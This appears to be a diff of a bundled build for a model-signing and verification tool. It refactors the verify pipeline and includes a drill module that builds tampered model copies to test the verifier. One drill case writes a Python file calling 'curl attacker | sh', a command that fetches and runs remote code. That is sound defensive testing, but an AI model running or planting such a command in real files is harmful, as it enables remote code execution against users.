+    NEED_IDENTITY = "give the identity you trust: --identity ID (or --identity-regexp RE) with --identity-provider ISSUER; without one, anyone Fulcio certified would be accepted";
+  }
+});
+
+// src/verify/pipeline.ts
+var pipeline_exports = {};
+__export(pipeline_exports, {
+  checkTrust: () => checkTrust,
+  defaultSignaturePath: () => defaultSignaturePath,
+  verifyModel: () => verifyModel
+});
+import path14 from "node:path";
+function refuseKeylessWithoutIdentity(bundle, trust) {
+  if (bundle.material.kind === "publicKey") return;
+  const vm = bundle.json.verificationMaterial;
+  if ((vm?.tlogEntries?.length ?? 0) === 0) return;
+  if (trust.some((t) => t.kind === "sigstore" || t.kind === "certificate")) return;
+  throw usage("MISSING_IDENTITY", `the signature is a Sigstore keyless signature: ${NEED_IDENTITY}`);
+}
+async function checkTrust(bundle, trust) {
+  if (bundle.payloadType !== IN_TOTO_PAYLOAD_TYPE) {
+    throw reject("SIG_MALFORMED", `DSSE payloadType is ${JSON.stringify(bundle.payloadType)}, expected ${IN_TOTO_PAYLOAD_TYPE}`);
+  }
+  if (trust.length === 0) throw new ModelsignError("NO_TRUST", "no key, certificate chain or identity to verify against", { kind: "usage" });
+  const bytes = pae(bundle.payloadType, bundle.payload);
+  const errors = [];
+  for (const t of trust) {
+    try {
+      return await t.verify(bundle, bytes);
+    } catch (e) {
+      if (e instanceof ModelsignError && e.kind === "reject") errors.push(e);
+      else throw e;
+    }
+  }
+  if (errors.length === 1) throw errors[0];
+  const first = errors[0];
+  throw reject(first.code, `no trusted authority accepts the signature: ${errors.map((e) => e.message).join("; ")}`);
+}
+async function verifyModel(opts) {
+  const signature = opts.signature ?? await defaultSignaturePath(opts.model);
+  const result = {
+    verified: false,
+    model: opts.model,
+    signature,
+    rootDigest: void 0,
+    subjectName: void 0,
+    signer: void 0,
+    signerInfo: void 0,
+    metadata: void 0,
+    serialization: void 0,
+    filesChecked: 0,
+    bytesHashed: 0,
+    failures: [],
+    extra: {}
+  };
+  try {
+    const bundle = parseBundle(await readBundleFile(signature, void 0, { noFollow: opts.signature === void 0 }));
+    refuseKeylessWithoutIdentity(bundle, opts.trust);
+    const signer = await checkTrust(bundle, opts.trust);
+    result.signerInfo = signer;
+    result.signer = signer.description;
+    const statement = parseStatement(bundle.payload);
+    result.subjectName = statement.subjectName;
+    result.metadata = statement.metadata;
+    result.serialization = statement.serialization;
+    result.rootDigest = statement.rootDigest;
+    const nameFailures = checkResourceNames(statement.resources.map((r) => r.name));
+    if (nameFailures.length > 0) {
+      result.failures.push(...nameFailures);
+      return result;
+    }
+    if (statement.rootDigest !== void 0) {
+      const computed = rootDigest(statement.resources);
+      if (computed !== statement.rootDigest) {
+        result.failures.push({ code: "ROOT_DIGEST_MISMATCH", message: "signed root digest does not match the signed resource list" });
+        return result;
+      }
+    } else {
+      result.rootDigest = rootDigest(statement.resources);
+    }
+    const files = await checkFiles({
+      model: opts.model,
+      signaturePath: signature,
+      serialization: statement.serialization,
+      resources: statement.resources,
+      ignorePaths: opts.ignorePaths ?? [],
+      ignoreUnsignedFiles: opts.ignoreUnsignedFiles ?? false,
+      ...opts.engine ? { engine: opts.engine } : {},
+      ...opts.listing ? { listing: opts.listing } : {},
+      ...await modelSource(opts, statement.resources, statement.serialization.method)
+    });
+    result.failures.push(...files.failures);
+    result.filesChecked = files.filesChecked;
+    result.bytesHashed = files.bytesHashed;
+    if (result.failures.length === 0) {
+      const ctx = { options: opts, bundle, statement, signer, result };
+      for (const stage of opts.stages ?? []) result.failures.push(...await stage(ctx));
+    }
+  } catch (e) {
+    if (e instanceof ModelsignError && e.kind === "reject") result.failures.push(toFailure(e));
+    else throw e;
+  }
+  result.verified = result.failures.length === 0;
+  return result;
+}
+async function modelSource(opts, resources, method) {
+  if (opts.listing) return {};
+  const base2 = path14.basename(opts.model);
+  const fileOf = (n) => method === "shards" ? parseShardName(n)?.path ?? n : n;
+  if (!opts.source && resources.length > 0 && resources.every((r) => fileOf(r.name) === "." || fileOf(r.name) === base2)) return {};
+  const { archiveSourceFor: archiveSourceFor2 } = await Promise.resolve().then(() => (init_archive(), archive_exports));
+  const source = opts.source ?? await archiveSourceFor2(opts.model);
+  return source ? { source } : {};
+}
+var init_pipeline = __esm({
+  "src/verify/pipeline.ts"() {
+    "use strict";
+    init_errors();
+    init_serialize();
+    init_bundle();
+    init_dsse();
+    init_statement();
+    init_legacy();
+    init_files();
+    init_names();
+    init_types3();
+    init_signature_path();
+    init_signature_path();
   }
 });
 
@@ -58655,8 +58824,8 @@ async function walkLineage(opts) {
     }
     const floor = below.get(link.name);
     if (floor === null || floor !== void 0 && !import_semver6.default.lt(link.version, floor)) {
-      const why = floor === null ? `a descendant named ${clean3(link.name)} has no version` : `an ancestor must have a lower version than ${clean3(`${link.name}@${floor}`)} built from it`;
-      const f2 = { code: "LINEAGE_VERSION_ORDER", message: `${label2}: ${why}` };
+      const why2 = floor === null ? `a descendant named ${clean3(link.name)} has no version` : `an ancestor must have a lower version than ${clean3(`${link.name}@${floor}`)} built from it`;
+      const f2 = { code: "LINEAGE_VERSION_ORDER", message: `${label2}: ${why2}` };
       failures.push(f2);
       node.failure = f2;
     }
@@ -58714,7 +58883,7 @@ async function walkLineage(opts) {
     node.verified = node.failure === null;
     node.datasets = vb.lineage?.datasets ?? [];
     record();
-    const path21 = new Set(onPath).add(link.rootDigest);
+    const path23 = new Set(onPath).add(link.rootDigest);
     const nextBelow = new Map(below);
     const prev = nextBelow.get(vb.name);
     if (prev === void 0 || prev !== null && import_semver6.default.lt(vb.version, prev)) nextBelow.set(vb.name, vb.version);
@@ -58726,7 +58895,7 @@ async function walkLineage(opts) {
         }
         break;
       }
-      node.parents.push(await visit(p2, node, depth + 1, path21, nextBelow));
+      node.parents.push(await visit(p2, node, depth + 1, path23, nextBelow));
     }
     return node;
   };
@@ -58774,8 +58943,8 @@ async function readRevokedFile(file) {
     buf = await readRegularFile(file, MAX_REVOKED_BYTES);
   } catch (e) {
     if (e instanceof FileTooLarge) throw usage("BAD_REVOKED_LIST", `revocation list ${file} is larger than ${MAX_REVOKED_BYTES} bytes`);
-    const why = e instanceof NotRegularFile ? "not a regular file" : errnoCode(e) ?? String(e);
-    throw usage("BAD_REVOKED_LIST", `cannot read revocation list ${file}: ${why}`);
+    const why2 = e instanceof NotRegularFile ? "not a regular file" : errnoCode(e) ?? String(e);
+    throw usage("BAD_REVOKED_LIST", `cannot read revocation list ${file}: ${why2}`);
   }
   return parseRevokedList(buf.toString("utf8"), `revocation list ${file}`);
 }
@@ -58810,7 +58979,7 @@ __export(state_exports, {
   serializeState: () => serializeState
 });
 import { open as open4, rename as rename2, stat as stat6, unlink as unlink2, writeFile as writeFile3 } from "node:fs/promises";
-import path13 from "node:path";
+import path15 from "node:path";
 function bad4(file, msg) {
   throw reject("STATE_CORRUPT", `state file ${file} is corrupt (${msg}); refusing to guess the highest version`);
 }
@@ -58836,8 +59005,8 @@ async function readState(file) {
   } catch (e) {
     if (errnoCode(e) === "ENOENT") return /* @__PURE__ */ new Map();
     if (e instanceof FileTooLarge) bad4(file, `larger than ${MAX_STATE_BYTES} bytes`);
-    const why = e instanceof NotRegularFile ? "not a regular file" : errnoCode(e) ?? String(e);
-    throw usage("STATE_UNREADABLE", `cannot read state file ${file}: ${why}`);
+    const why2 = e instanceof NotRegularFile ? "not a regular file" : errnoCode(e) ?? String(e);
+    throw usage("STATE_UNREADABLE", `cannot read state file ${file}: ${why2}`);
   }
   return parseState(buf.toString("utf8"), file);
 }
@@ -58890,7 +59059,7 @@ async function recordVerified(file, entry, opts = {}) {
     const seen = state2.get(entry.name);
     if (seen && import_semver7.default.eq(seen.version, entry.version) && seen.rootDigest === entry.rootDigest) return void 0;
     state2.set(entry.name, { version: entry.version, ...entry.rootDigest ? { rootDigest: entry.rootDigest } : {}, updated: (/* @__PURE__ */ new Date()).toISOString() });
-    const tmp = path13.join(path13.dirname(file), `.${path13.basename(file)}.${process.pid}.${Date.now()}.tmp`);
+    const tmp = path15.join(path15.dirname(file), `.${path15.basename(file)}.${process.pid}.${Date.now()}.tmp`);
     try {
       await writeFile3(tmp, serializeState(state2), { flag: "wx", mode: 420 });
       await rename2(tmp, file);
@@ -59209,7 +59378,7 @@ var init_append = __esm({
 
 // src/scan/scan-path.ts
 import { lstat as lstat4 } from "node:fs/promises";
-import path15 from "node:path";
+import path17 from "node:path";
 function summarise(target, files, extra, failOn = "low") {
   const findings = [...extra, ...files.flatMap((f2) => f2.findings)].sort((a, b2) => severityRank(b2.severity) - severityRank(a.severity));
   const clean5 = !findings.some((f2) => severityRank(f2.severity) >= severityRank(failOn));
@@ -59227,7 +59396,7 @@ async function scanPath(target, opts = {}) {
     const r = await scanTar(target, limits);
     return summarise(target, r.reports, r.findings, opts.failOn);
   }
-  if (st2.isFile()) return summarise(target, [await scanFile(target, path15.basename(target), limits)], [], opts.failOn);
+  if (st2.isFile()) return summarise(target, [await scanFile(target, path17.basename(target), limits)], [], opts.failOn);
   if (!st2.isDirectory() && !st2.isSymbolicLink()) throw usage("SPECIAL_FILE", `not a file, directory or archive: ${target}`);
   const listing = await enumerateModel(target, { ignorePaths: [], allowSymlinks: false, maxFiles: limits.maxFiles });
   if (listing.isFile) {
@@ -59324,8 +59493,8 @@ async function checkAuditLog(file, opts = {}) {
         data = data.subarray(nl + 1);
         lineNo++;
         if (line.length > MAX_LINE_BYTES) return fail(lineNo, `line longer than ${MAX_LINE_BYTES} bytes`);
-        const why = lineProblem(line, lineNo, prev);
-        if (why) return fail(lineNo, why);
+        const why2 = lineProblem(line, lineNo, prev);
+        if (why2) return fail(lineNo, why2);
         prev = lineHash(line);
         report2.records = lineNo;
         report2.head = prev;
@@ -59440,7 +59609,7 @@ var init_hostile = __esm({
 
 // src/drill/model.ts
 import { mkdir as mkdir3, writeFile as writeFile5 } from "node:fs/promises";
-import path16 from "node:path";
+import path18 from "node:path";
 function filler(n, seed) {
   const b2 = Buffer.alloc(n);
   let x = seed >>> 0 || 1;
@@ -59459,12 +59628,12 @@ function safetensorsShard(tensor, data) {
   return Buffer.concat([len, header, data]);
 }
 async function writeModel(dir, seed = 1) {
-  await mkdir3(path16.join(dir, "tokenizer"), { recursive: true });
-  await writeFile5(path16.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
-  await writeFile5(path16.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
-  await writeFile5(path16.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
-  await writeFile5(path16.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
-  await writeFile5(path16.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
+  await mkdir3(path18.join(dir, "tokenizer"), { recursive: true });
+  await writeFile5(path18.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
+  await writeFile5(path18.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
+  await writeFile5(path18.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
+  await writeFile5(path18.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
+  await writeFile5(path18.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
   return dir;
 }
 async function signDrillModel(dir, key, o = {}) {
@@ -59505,16 +59674,16 @@ import { execFileSync } from "node:child_process";
 import { createHash as createHash6, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
 import { appendFile, copyFile, mkdir as mkdir4, readFile as readFile3, rename as rename3, rm as rm3, symlink, writeFile as writeFile6 } from "node:fs/promises";
 import { rmSync } from "node:fs";
-import path17 from "node:path";
+import path19 from "node:path";
 async function readSigned(model) {
-  const bundle = JSON.parse(await readFile3(path17.join(model, "model.sig"), "utf8"));
+  const bundle = JSON.parse(await readFile3(path19.join(model, "model.sig"), "utf8"));
   const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, "base64").toString("utf8"));
   return { bundle, statement };
 }
 async function writeSignedPayload(model, payload, key) {
   const bytes = Buffer.from(payload, "utf8");
   const signature = signBytes(key.priv, pae(IN_TOTO_PAYLOAD_TYPE, bytes));
-  await writeFile6(path17.join(model, "model.sig"), serializeBundle(buildBundle({ payload: bytes, signature, material: { publicKeyHint: keyHint(key.pub) } })));
+  await writeFile6(path19.join(model, "model.sig"), serializeBundle(buildBundle({ payload: bytes, signature, material: { publicKeyHint: keyHint(key.pub) } })));
 }
 async function signedWithExtraResource(ctx, dirName, extra) {
   const m2 = await ctx.copyBase(dirName);
@@ -59527,7 +59696,7 @@ async function signedWithExtraResource(ctx, dirName, extra) {
 }
 function canMakeFifo(dir) {
   if (process.platform === "win32") return false;
-  const probe = path17.join(dir, ".fifo-probe");
+  const probe = path19.join(dir, ".fifo-probe");
   try {
     execFileSync("mkfifo", [probe], { stdio: "ignore" });
     rmSync(probe, { force: true });
@@ -59537,7 +59706,7 @@ function canMakeFifo(dir) {
   }
 }
 async function emptyStore(ctx, name2) {
-  const dir = path17.join(ctx.tmp, name2);
+  const dir = path19.join(ctx.tmp, name2);
   await mkdir4(dir, { recursive: true });
   return dir;
 }
@@ -59562,7 +59731,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("changed-byte");
-          const f2 = path17.join(m2, SHARD_1);
+          const f2 = path19.join(m2, SHARD_1);
           const b2 = await readFile3(f2);
           const i = b2.length >> 1;
           b2[i] = b2[i] ^ 1;
@@ -59576,7 +59745,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("injected-file");
-          await writeFile6(path17.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
+          await writeFile6(path19.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
           return { model: m2 };
         }
       },
@@ -59586,7 +59755,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("removed-shard");
-          await rm3(path17.join(m2, SHARD_2));
+          await rm3(path19.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -59596,9 +59765,9 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("renamed-file");
-          await rename3(path17.join(m2, SHARD_1), path17.join(m2, "tmp"));
-          await rename3(path17.join(m2, SHARD_2), path17.join(m2, SHARD_1));
-          await rename3(path17.join(m2, "tmp"), path17.join(m2, SHARD_2));
+          await rename3(path19.join(m2, SHARD_1), path19.join(m2, "tmp"));
+          await rename3(path19.join(m2, SHARD_2), path19.join(m2, SHARD_1));
+          await rename3(path19.join(m2, "tmp"), path19.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -59607,10 +59776,10 @@ var init_attacks = __esm({
         title: "another model's valid signature (same signer) put beside this model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const other = await writeModel(path17.join(ctx.tmp, "other-model"), 99);
+          const other = await writeModel(path19.join(ctx.tmp, "other-model"), 99);
           await signDrillModel(other, ctx.signer, { license: ctx.licenses.allowed });
           const m2 = await ctx.copyBase("swapped-signature");
-          await copyFile(path17.join(other, "model.sig"), path17.join(m2, "model.sig"));
+          await copyFile(path19.join(other, "model.sig"), path19.join(m2, "model.sig"));
           return { model: m2 };
         }
       },
@@ -59619,7 +59788,7 @@ var init_attacks = __esm({
         title: "the model re-signed by a key the set-up does not trust",
         needs: [],
         async build(ctx) {
-          const m2 = path17.join(ctx.tmp, "untrusted-key");
+          const m2 = path19.join(ctx.tmp, "untrusted-key");
           await writeModel(m2, 7);
           const kp = generateKeyPairSync2("ed25519");
           await signDrillModel(m2, { priv: kp.privateKey, pub: kp.publicKey });
@@ -59631,7 +59800,7 @@ var init_attacks = __esm({
         title: "the signature file removed",
         needs: [],
         async build(ctx) {
-          const m2 = path17.join(ctx.tmp, "missing-signature");
+          const m2 = path19.join(ctx.tmp, "missing-signature");
           await writeModel(m2, 8);
           return { model: m2 };
         }
@@ -59643,13 +59812,13 @@ var init_attacks = __esm({
         async build(ctx) {
           const m2 = await ctx.copyBase("edited-payload");
           const evil = safetensorsShard("a.weight", filler(64 * 1024, 666));
-          await writeFile6(path17.join(m2, SHARD_1), evil);
+          await writeFile6(path19.join(m2, SHARD_1), evil);
           const { bundle, statement } = await readSigned(m2);
           const r = statement.predicate.resources.find((x) => x.name === SHARD_1);
           r.digest = sha256(evil);
           statement.subject[0].digest.sha256 = rootDigest(statement.predicate.resources);
           bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString("base64");
-          await writeFile6(path17.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
+          await writeFile6(path19.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
           return { model: m2 };
         }
       },
@@ -59659,7 +59828,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("two-manifests");
-          await writeFile6(path17.join(m2, "modeling_llama.py"), "import os\n");
+          await writeFile6(path19.join(m2, "modeling_llama.py"), "import os\n");
           const { statement } = await readSigned(m2);
           const evil = JSON.parse(JSON.stringify(statement));
           evil.predicate.resources.push({ name: "modeling_llama.py", algorithm: "sha256", digest: sha256("import os\n") });
@@ -59673,7 +59842,7 @@ var init_attacks = __esm({
         title: 'signed manifest names "../secret.bin", a file outside the model with the signed digest',
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path17.join(ctx.tmp, "secret.bin");
+          const outside = path19.join(ctx.tmp, "secret.bin");
           await writeFile6(outside, "outside the model\n");
           return { model: await signedWithExtraResource(ctx, "traversal", { name: "../secret.bin", digest: sha256("outside the model\n") }) };
         }
@@ -59683,7 +59852,7 @@ var init_attacks = __esm({
         title: "signed manifest names an absolute path outside the model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path17.join(ctx.tmp, "secret-abs.bin");
+          const outside = path19.join(ctx.tmp, "secret-abs.bin");
           await writeFile6(outside, "outside the model (absolute)\n");
           return { model: await signedWithExtraResource(ctx, "absolute-path", { name: outside, digest: sha256("outside the model (absolute)\n") }) };
         }
@@ -59694,10 +59863,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-out");
-          const outside = path17.join(ctx.tmp, "config-copy.json");
-          await copyFile(path17.join(m2, "config.json"), outside);
-          await rm3(path17.join(m2, "config.json"));
-          await symlink(outside, path17.join(m2, "config.json"));
+          const outside = path19.join(ctx.tmp, "config-copy.json");
+          await copyFile(path19.join(m2, "config.json"), outside);
+          await rm3(path19.join(m2, "config.json"));
+          await symlink(outside, path19.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -59707,10 +59876,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-in");
-          await mkdir4(path17.join(m2, ".git"));
-          await copyFile(path17.join(m2, "config.json"), path17.join(m2, ".git", "config.json"));
-          await rm3(path17.join(m2, "config.json"));
-          await symlink(path17.join(".git", "config.json"), path17.join(m2, "config.json"));
+          await mkdir4(path19.join(m2, ".git"));
+          await copyFile(path19.join(m2, "config.json"), path19.join(m2, ".git", "config.json"));
+          await rm3(path19.join(m2, "config.json"));
+          await symlink(path19.join(".git", "config.json"), path19.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -59720,7 +59889,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature", "fifo"],
         async build(ctx) {
           const m2 = await ctx.copyBase("fifo");
-          execFileSync("mkfifo", [path17.join(m2, "pipe.bin")]);
+          execFileSync("mkfifo", [path19.join(m2, "pipe.bin")]);
           return { model: m2 };
         }
       },
@@ -59730,7 +59899,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("appended-bytes");
-          await appendFile(path17.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
+          await appendFile(path19.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
           return { model: m2 };
         }
       },
@@ -59739,9 +59908,9 @@ var init_attacks = __esm({
         title: "an older signed version presented after a newer one was verified (version rollback)",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const stateFile = path17.join(ctx.tmp, "rollback-state.json");
+          const stateFile = path19.join(ctx.tmp, "rollback-state.json");
           const setup = { storeDir: await emptyStore(ctx, "rollback-store"), stateFile };
-          const newer = path17.join(ctx.tmp, "rollback-newer");
+          const newer = path19.join(ctx.tmp, "rollback-newer");
           await writeModel(newer, 21);
           await signDrillModel(newer, ctx.signer, { version: "2.0.0", license: ctx.licenses.allowed });
           const r = await ctx.verify(newer, setup);
@@ -59756,12 +59925,12 @@ var init_attacks = __esm({
         title: "a correctly signed fine-tune of a revoked base model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const parentBundle = await readFile3(path17.join(ctx.base, "model.sig"));
+          const parentBundle = await readFile3(path19.join(ctx.base, "model.sig"));
           const { statement } = await readSigned(ctx.base);
           const parentDigest = `sha256:${statement.subject[0].digest.sha256}`;
-          const storeDir = path17.join(ctx.tmp, "revoked-store");
+          const storeDir = path19.join(ctx.tmp, "revoked-store");
           await recordBundle(storeDir, { name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest }, parentBundle);
-          const m2 = path17.join(ctx.tmp, "revoked-ancestor");
+          const m2 = path19.join(ctx.tmp, "revoked-ancestor");
           await writeModel(m2, 31);
           const lineage = { parents: [{ name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest, bundleDigest: bundleDigestOf(parentBundle), relation: "finetune" }] };
           await signDrillModel(m2, ctx.signer, { name: "drill-finetune", license: ctx.licenses.allowed, extra: { lineage } });
@@ -59775,7 +59944,7 @@ var init_attacks = __esm({
         async build(ctx) {
           const lic = ctx.licenses.outside;
           if (lic === void 0) throw new AttackNotApplicable("the policy allows every license the drill tried (it has no license rule that refuses one)");
-          const m2 = path17.join(ctx.tmp, "license-outside-policy");
+          const m2 = path19.join(ctx.tmp, "license-outside-policy");
           await writeModel(m2, 41);
           await signDrillModel(m2, ctx.signer, { license: lic });
           return { model: m2 };
@@ -59787,9 +59956,9 @@ var init_attacks = __esm({
         // No feature need: a set-up without scanning (policy formats) accepts it, and that is MISSED.
         needs: ["trusted-signature"],
         async build(ctx) {
-          const m2 = path17.join(ctx.tmp, "hostile-pickle");
+          const m2 = path19.join(ctx.tmp, "hostile-pickle");
           await writeModel(m2, 51);
-          await writeFile6(path17.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
+          await writeFile6(path19.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
           await signDrillModel(m2, ctx.signer, { license: ctx.licenses.allowed });
           return { model: m2 };
         }
@@ -59800,14 +59969,14 @@ var init_attacks = __esm({
 
 // src/drill/run.ts
 import { cp, mkdir as mkdir5, mkdtemp as mkdtemp2, rm as rm4 } from "node:fs/promises";
-import os5 from "node:os";
-import path18 from "node:path";
+import os6 from "node:os";
+import path20 from "node:path";
 async function runDrill(opts) {
-  const tmp = await mkdtemp2(path18.join(os5.tmpdir(), "modelsign-drill-"));
+  const tmp = await mkdtemp2(path20.join(os6.tmpdir(), "modelsign-drill-"));
   try {
-    const base2 = path18.join(tmp, "base-model");
+    const base2 = path20.join(tmp, "base-model");
     await writeModel(base2, 1);
-    const store = path18.join(tmp, "lineage-store");
+    const store = path20.join(tmp, "lineage-store");
     await mkdir5(store);
     const defaultSetup = { storeDir: store };
     let baseline;
@@ -59827,7 +59996,7 @@ async function runDrill(opts) {
       ...opts.signer ? { signer: opts.signer } : {},
       base: base2,
       copyBase: async (name2) => {
-        const dest = path18.join(tmp, name2);
+        const dest = path20.join(tmp, name2);
         await cp(base2, dest, { recursive: true });
         return dest;
       },
@@ -59861,8 +60030,8 @@ function skipReason(a, met, hasSigner) {
   return void 0;
 }
 async function runAttack(a, ctx, verifier, met, defaultSetup) {
-  const why = skipReason(a, met, ctx.signer !== void 0);
-  if (why) return { id: a.id, title: a.title, outcome: "skipped", codes: [], reason: why };
+  const why2 = skipReason(a, met, ctx.signer !== void 0);
+  if (why2) return { id: a.id, title: a.title, outcome: "skipped", codes: [], reason: why2 };
   let built;
   try {
     built = await a.build(ctx);
@@ -59894,7 +60063,7 @@ var init_run = __esm({
 });
 
 // src/drill/verifier.ts
-import path19 from "node:path";
+import path21 from "node:path";
 async function pickLicenses(policy, purpose) {
   const rule = policy?.rules[purpose];
   if (!policy || policy.license === void 0 || !rule) return { allowed: DEFAULT_DRILL_LICENSE };
@@ -59923,7 +60092,7 @@ async function drillVerifier(cfg) {
   } else {
     const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
     const file = policy.file;
-    trust = await policyTrust2(policy.trust, (f2) => path19.relative(path19.dirname(file), f2));
+    trust = await policyTrust2(policy.trust, (f2) => path21.relative(path21.dirname(file), f2));
     trustDesc = `trust section of ${cfg.policy}`;
   }
   if (trust.length === 0) throw usage("MISSING_OPTION", `drill needs something to trust: the policy ${cfg.policy} trusts nobody, so give --key PUBLIC_KEY`);
@@ -61833,16 +62002,11 @@ __export(index_exports, {
   walkLineage: () => walkLineage,
   writeKeyPair: () => writeKeyPair
 });
-import { createPublicKey as createPublicKey2 } from "node:crypto";
-async function sign(opts) {
-  await checkVersion(opts.version);
-  const key = typeof opts.key === "string" ? await loadPrivateKey(opts.key) : opts.key;
-  return signModel({ ...opts, signer: keySigner(key, createPublicKey2(key)) });
-}
 async function verifyWithKeys(opts) {
   const trust = await Promise.all(opts.keys.map(async (k2) => keyTrust(await loadPublicKey(k2), `key ${k2}`)));
   return verifyModel({ ...opts, trust });
 }
+var sign;
 var init_index = __esm({
   "src/index.ts"() {
     "use strict";
@@ -61882,6 +62046,7 @@ var init_index = __esm({
     init_keyless();
     init_trusted_root();
     init_types4();
+    sign = signWithKey;
   }
 });
 
@@ -61980,7 +62145,7 @@ function createProgress(label2, total, opts = {}) {
   };
 }
 function engineFlags(o, label2, onCreate) {
-  void Promise.resolve().then(() => (init_engine(), engine_exports)).then((m2) => m2.prewarmHashPool(o.jobs ? { jobs: o.jobs } : {})).catch(() => void 0);
+  void Promise.resolve().then(() => (init_engine(), engine_exports)).then((m2) => m2.prewarmHashPool({ ...o.jobs ? { jobs: o.jobs } : {}, ...o.hash === "blake3" || o.hash === "blake2b" ? { alg: o.hash } : {} })).catch(() => void 0);
   let p2;
   return {
     ...o.jobs ? { jobs: o.jobs } : {},
@@ -62012,6 +62177,10 @@ function addLineageSignOptions(cmd) {
 async function prepareLineage(model, o) {
   const parents = o.parent ?? [];
   const datasetsRaw = o.dataset ?? [];
+  const noStore = o.record === void 0 || o.record === false;
+  if (parents.length === 0 && datasetsRaw.length === 0 && (o.relation ?? []).length === 0 && (o.parentKey ?? []).length === 0 && noStore) {
+    return { extraMetadata: void 0, key: void 0, write: true, record: async () => void 0 };
+  }
   const { parseDatasetFlag: parseDatasetFlag2, resolveRelations: resolveRelations2, loadParents: loadParents2, buildLineageMeta: buildLineageMeta2, recordBundle: recordBundle2 } = await Promise.resolve().then(() => (init_lineage(), lineage_exports));
   const relations = resolveRelations2(o.relation ?? [], parents.length);
   const datasets = datasetsRaw.map(parseDatasetFlag2);
@@ -62026,9 +62195,9 @@ async function prepareLineage(model, o) {
       trust = await Promise.all(o.parentKey.map(async (k2) => keyTrust2(await loadPublicKey2(k2), `key ${k2}`)));
     } else {
       if (!o.key) throw usage("MISSING_OPTION", "--parent needs --parent-key PUB when signing without --key");
-      const { createPublicKey: createPublicKey3 } = await import("node:crypto");
+      const { createPublicKey: createPublicKey2 } = await import("node:crypto");
       key = await loadPrivateKey2(o.key);
-      trust = [keyTrust2(createPublicKey3(key), `signing key ${o.key}`)];
+      trust = [keyTrust2(createPublicKey2(key), `signing key ${o.key}`)];
     }
     loaded2 = await loadParents2(parents, trust);
   }
@@ -62178,7 +62347,7 @@ special file in the model, a parent with the same name and a version not lower t
         const { signKeyless: signKeyless2 } = await Promise.resolve().then(() => (init_sign_keyless(), sign_keyless_exports));
         return signKeyless2(model, o, lineage);
       }
-      const { sign: sign2 } = await Promise.resolve().then(() => (init_index(), index_exports));
+      const { signWithKey: sign2 } = await Promise.resolve().then(() => (init_sign(), sign_exports));
       let progress;
       const r = await sign2({
         model,
@@ -62224,8 +62393,8 @@ init_esm();
 init_errors();
 init_io();
 import { mkdtempSync, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
-import os6 from "node:os";
-import path20 from "node:path";
+import os7 from "node:os";
+import path22 from "node:path";
 
 // src/cli/verify-key.ts
 init_io();
@@ -62246,7 +62415,7 @@ var keyPlugin = {
 // src/cli/verify-policy.ts
 init_esm();
 init_errors();
-import path11 from "node:path";
+import path12 from "node:path";
 var CLI_TRUST_FLAGS = ["key", "certificateChain", "identity", "identityRegexp", "identityRegExp", "certificateIdentity", "certificateIdentityRegexp"];
 var loaded = /* @__PURE__ */ new WeakMap();
 function cliTrustGiven(flags) {
@@ -62280,7 +62449,7 @@ Policy (exit 1 when it refuses the model: license, revoked, minimum version, for
     const policy = loaded.get(flags);
     if (!policy?.trust || cliTrustGiven(flags)) return [];
     const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
-    return policyTrust2(policy.trust, (f2) => path11.relative(path11.dirname(policy.file), f2));
